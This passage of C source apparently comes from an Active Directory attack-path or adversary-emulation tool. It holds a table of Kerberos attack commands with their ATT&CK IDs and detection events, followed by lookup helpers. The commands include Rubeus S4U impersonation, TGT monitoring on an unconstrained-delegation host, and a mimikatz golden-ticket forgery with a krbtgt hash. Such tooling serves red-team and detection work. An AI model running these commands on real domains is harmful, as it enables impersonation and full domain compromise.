	  L("execute-assembly Rubeus.exe s4u /user:svc_web /rc4:8846f7eaee8fb117ad06bdd830b7586c /impersonateuser:Administrator /msdsspn:cifs/SRV0007.corp.local /ptt"),
	  L("4769: service ticket requested with S4U2Self and S4U2Proxy") },
	{ "tgt-monitor", ATTACK_C2, "T1558", ATTACK_NO_EDGE, "unconstrained_delegation",
	  ATTACK_FX_IMPERSONATE,
	  "^execute-assembly Rubeus\\.exe monitor ",
	  "Waits on a host with unconstrained delegation for the TGTs of accounts that log on.",
	  "execute-assembly Rubeus.exe monitor /interval:5 /filteruser:{dc_computer}",
	  L("execute-assembly Rubeus.exe monitor /interval:5 /filteruser:DC01$"),
	  L("4624: the DC's machine account logs on to the host", "Sysmon 10: lsass.exe accessed") },
	{ "golden-ticket", ATTACK_C2, "T1558.001", E(TrustedBy), NULL, ATTACK_FX_IMPERSONATE,
	  "^mimikatz kerberos::golden /user:[^ ]+ /domain:[^ ]+ /sid:[^ ]+ ",
	  "Forges a TGT with the krbtgt hash; with an extra SID it crosses a trust.",
	  "mimikatz kerberos::golden /user:Administrator /domain:{domain} /sid:{domain_sid} /krbtgt:{krbtgt_hash} /sids:{sid} /ptt",
	  L("mimikatz kerberos::golden /user:Administrator /domain:emea.corp.local /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /sids:S-1-5-21-4-5-6-519 /ptt"),
	  L("4769: service ticket for a TGT the KDC never issued") },
};
const size_t attack_ncmds = sizeof(attack_cmds) / sizeof(attack_cmds[0]);

static const char *const edge_names[] = {
#define ATTACK_EDGE_NAME(name, grants) #name,
	ATTACK_EDGE_TYPES(ATTACK_EDGE_NAME)
#undef ATTACK_EDGE_NAME
};

static const unsigned char edge_grants[] = {
#define ATTACK_EDGE_GRANTS(name, grants) grants,
	ATTACK_EDGE_TYPES(ATTACK_EDGE_GRANTS)
#undef ATTACK_EDGE_GRANTS
};

static const char *const mode_names[ATTACK_MODE_COUNT] = { "kali", "c2" };

const char *attack_edge_name(enum attack_edge e)
{
	return (unsigned)e < ATTACK_E_COUNT ? edge_names[e] : NULL;
}

int attack_edge_grants(enum attack_edge e)
{
	return (unsigned)e < ATTACK_E_COUNT && edge_grants[e];
}

int attack_edge_find(const char *s)
{
	int i;

	for (i = 0; s != NULL && i < ATTACK_E_COUNT; i++)
		if (strcmp(edge_names[i], s) == 0)
			return i;
	return -1;
}

const char *attack_mode_name(enum attack_mode m)
{
	return (unsigned)m < ATTACK_MODE_COUNT ? mode_names[m] : NULL;
}

int attack_mode_find(const char *s)
{
	int i;

	for (i = 0; s != NULL && i < ATTACK_MODE_COUNT; i++)
		if (strcmp(mode_names[i], s) == 0)
			return i;
	return -1;
}

const struct attack_cmd *attack_cmd_find(enum attack_mode m, const char *name)
{
	size_t i;

	for (i = 0; name != NULL && i < attack_ncmds; i++)
		if (attack_cmds[i].mode == m && strcmp(attack_cmds[i].name, name) == 0)
			return &attack_cmds[i];
	return NULL;
}

size_t attack_cmds_for_edge(enum attack_mode m, enum attack_edge e,
    const struct attack_cmd **out, size_t max)
{
	size_t i, n = 0;

	if ((unsigned)e >= ATTACK_E_COUNT)
		return 0;
	for (i = 0; i < attack_ncmds; i++) {
		if (attack_cmds[i].mode != m || !(attack_cmds[i].edges & ((attack_edges)1 << e)))
			continue;
		if (n < max)
			out[n] = &attack_cmds[i];
		n++;
	}
	return n;
}
